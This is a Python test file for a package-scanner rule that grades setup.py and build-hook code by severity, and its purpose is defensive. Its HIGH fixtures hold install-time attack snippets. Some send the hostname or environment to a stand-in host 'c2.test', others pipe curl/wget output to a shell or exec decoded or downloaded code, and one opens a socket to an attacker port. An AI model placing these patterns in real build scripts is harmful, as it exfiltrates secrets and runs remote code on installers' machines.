"""What build scripts do when they are run: attacks as they were found on PyPI, and what ML packages do every day."""

# ruff: noqa: E501  (scripts on one line each)
from __future__ import annotations

import contextlib
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mlgate.errors import Incomplete
from mlgate.manifests import setup_runs
from tests.reading import read
from tests.test_pipeline import look

SETUP = "from setuptools import setup\n{}\nsetup(name='x')\n"
COMMAND = "from setuptools.command.install import install\nclass Run(install):\n    def run(self):\n        {}\n"

HIGH = {
    "what the machine is called": COMMAND.format("requests.get('https://c2.test/?h=' + socket.gethostname())"),
    "the environment": "import requests, os\nrequests.post('https://c2.test', json=dict(os.environ))",
    "a shell": "import socket\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))",
    "decoded": "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
    "decoded in steps": "import zlib, base64 as b\nblob = b.b64decode('eJw=')\ntext = zlib.decompress(blob)\nexec(text)",
    "downloaded": "from urllib.request import urlopen as u\nexec(u('http://c2.test/x').read().decode())",
    "downloaded in steps": "import urllib.request\nwith urllib.request.urlopen('http://c2.test') as r:\n    t = r.read()\neval(t)",
    "a pipe to a shell": "__import__('os').system('curl -s http://c2.test/x | bash')",
    "an attribute by name": "import os\ngetattr(os, 'sys' + 'tem')('wget http://c2.test -O- | sh')",
    "an alias": "from os import system\ngo = system\ngo('echo Zm9v | base64 -d | sh')",
    "PowerShell": "import subprocess\nsubprocess.Popen(['powershell', '-WindowStyle', 'Hidden', '-EncodedCommand', 'cABvAHcA'])",
    "a file that was fetched": "import os, urllib.request\np = '/tmp/x'\nurllib.request.urlretrieve('http://c2.test', p)\nos.system(p)",
    "code as text": "f = open('/tmp/x.py', 'w')\nf.write('from urllib.request import urlopen;exec(urlopen(\"http://c2.test\").read())')\n"
    "print('subprocess')",
}  # fmt: skip
MEDIUM = {
    "a prebuilt wheel": "import urllib.request\nurl = f'https://github.test/{1}.whl'\nurllib.request.urlretrieve(url, 'x.whl')",
    "pip": "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'numpy'])",
    "submodules": "import subprocess\nsubprocess.check_call(['git', 'submodule', 'update', '--init'])",
    "npm": "import subprocess\nsubprocess.check_call('npm install', shell=True, cwd='js')",
    "curl by a function": "import os\ndef go(x, cmd):\n    os.system(cmd)\ngo(1, 'git log')\ngo(2, cmd='curl -LO https://x.test/m')",
    "curl": "import os\nos.system('curl -LO https://x.test/model.bin')",
}
LOW = {
    "a computed command": "import subprocess\ndef run(cmd):\n    return subprocess.check_output(cmd)",
    "a computed text": "eval(input())",
    "an unusual program": "import subprocess\nsubprocess.run(['./tools/generate.sh'])",
    "Python 2": "import subprocess\nprint 'x'",
}
INFO = {
    "the version by git": "import subprocess\nv = subprocess.check_output(['git', 'describe', '--tags']).decode().strip()",
    "git by a function": "import subprocess\ndef ask(cmd):\n    env = {}\n    return subprocess.Popen(cmd, env=env).communicate()\nask(['git', 'rev-parse', 'HEAD'])",
    "git in bash": "import subprocess, shlex\nc = shlex.split('bash -c \"git rev-parse --short HEAD\"')\nsubprocess.check_output(c)",
    "a compiler by a variable": "import subprocess\nsubprocess.check_output([cmake_bin, '--version'])",
    "git in a shell": "import subprocess\nsubprocess.check_output('git rev-parse --short HEAD', shell=True)",
    "CUDA": "import subprocess, os\nhome = os.environ['CUDA_HOME']\nsubprocess.check_output([home + '/bin/nvcc', '-V'])",
    "CMake": "import subprocess\nclass B:\n    def run(self):\n        subprocess.check_call(['cmake', '--build', '.'] + self.args)",
    "the version file": "import os\nabout = {}\nwith open(os.path.join('x', 'version.py')) as f:\n    exec(f.read(), about)",
    "a compiled file": "exec(compile(open('x/_version.py').read(), 'x', 'exec'))",
    "a child of itself": "import subprocess, sys\nsubprocess.check_call([sys.executable, 'setup.py', 'test'])",
}
NONE = {
    "nothing": "",
    "words only": "LONG = 'uses requests and subprocess, then exec'\nextras = {'http': ['requests', 'urllib3']}",
    "a method of that name": "import re\nrequests = re.compile('x')\nmodel.eval()\nself.execute(1)",
    "a local function": "def system(x):\n    return x\nsystem('curl http://x.test | bash')",
}


def told(text: str) -> list[tuple[str, str]]:
    result = read(setup_runs.INSPECTOR, "setup.py", SETUP.format(text).encode())
    return [(finding.severity.name, finding.rule.id) for finding in result.findings]


@pytest.mark.parametrize(
    ("severity", "text"),
    [(name, text) for name, texts in (("HIGH", HIGH), ("MEDIUM", MEDIUM), ("LOW", LOW), ("INFO", INFO)) for text in texts.values()],
)  # fmt: skip
def test_scripts(severity: str, text: str) -> None:
    if "Run(install)" in text:
        text = f"import requests, socket\n{text}"
    found = told(text)
    assert found, text
    assert found[0][0] == severity
    assert severity == "HIGH" or len({level for level, _ in found}) == 1


@pytest.mark.parametrize("text", NONE.values(), ids=NONE)
def test_what_runs_nothing_is_not_told(text: str) -> None:
    assert told(text) == []


def test_the_command_that_is_overridden_and_the_line_are_named() -> None:
    text = COMMAND.format("os.system('curl http://c2.test | sh')")
    (finding,) = read(setup_runs.INSPECTOR, "setup.py", f"import os\n{text}".encode()).findings
    assert finding.message.endswith("| sh in the command Run(install).")
    assert finding.location.line == 5
    assert "os.system" in finding.evidence


def test_usual_calls_are_one_finding() -> None:
    text = "import subprocess\n" + "subprocess.check_output(['git', 'log'])\n" * 30
    (finding,) = read(setup_runs.INSPECTOR, "setup.py", text.encode()).findings
    assert "(and 29 more like it)" in finding.message


@pytest.mark.parametrize(
    ("project", "script"),
    [
        ("[tool.hatch.build.hooks.custom]\n", "hatch_build.py"),
        ('[tool.hatch.build.targets.wheel.hooks.custom]\npath = "tools/hook.py"\n', "tools/hook.py"),
        ('[tool.poetry.build]\nscript = "build.py"\n', "build.py"),
        ('[build-system]\nrequires = []\nbuild-backend = "own.backend"\nbackend-path = ["."]\n', "own/backend.py"),
        ('[build-system]\nrequires = []\nbuild-backend = "pdm.backend"\n', "pdm_build.py"),
    ],
)
def test_build_hooks_are_read_where_the_project_names_them(tmp_path: Path, project: str, script: str) -> None:
    place = tmp_path / script
    place.parent.mkdir(exist_ok=True)
    place.write_text(HIGH["decoded"])
    (tmp_path / "other.py").write_text(HIGH["decoded"])
    (tmp_path / "pyproject.toml").write_text(project)
    found = [d.finding for d in look(tmp_path).verdict.decisions if d.finding.rule.id == "MLG-DEP-075"]
    assert [(f.location.path, f.severity.name) for f in found] == [(script, "HIGH")]


PIECES = ["import os", "import subprocess as s", "x = os.system", "y = x", "x = y", "y(x)", "s.run(x)", "exec(x)", "x = __import__(x)",
          "s.run([x] + y)", "s.run(f'{x}{y}')", "getattr(x, y)(x)", "for x in y: x()", "s.run('%s' % x)", "s.run(' '.join([x, y]))",
          "class x(y): y()", "with x as y: pass", "s.run()", "s.run(args='a \"b')", "x = s.check_output(x).decode()"]  # fmt: skip


@given(st.lists(st.sampled_from(PIECES), max_size=30))
def test_any_script_is_read(lines: list[str]) -> None:
    read(setup_runs.INSPECTOR, "setup.py", "\n".join(lines).encode())


@given(st.binary(max_size=200))
def test_any_bytes_are_read(data: bytes) -> None:
    with contextlib.suppress(Incomplete):
        read(setup_runs.INSPECTOR, "setup.py", b"exec\n" + data)


def test_long_and_deep_scripts_end() -> None:
    for text in (
        "exec(" + "+".join(["x"] * 5_000) + ")",
        "exec" + ".x" * 3_000 + "(1)",
        "x = y\ny = x\nx(1)\nexec(y)\n" * 500,
    ):
        with contextlib.suppress(Incomplete):
            read(setup_runs.INSPECTOR, "setup.py", text.encode())
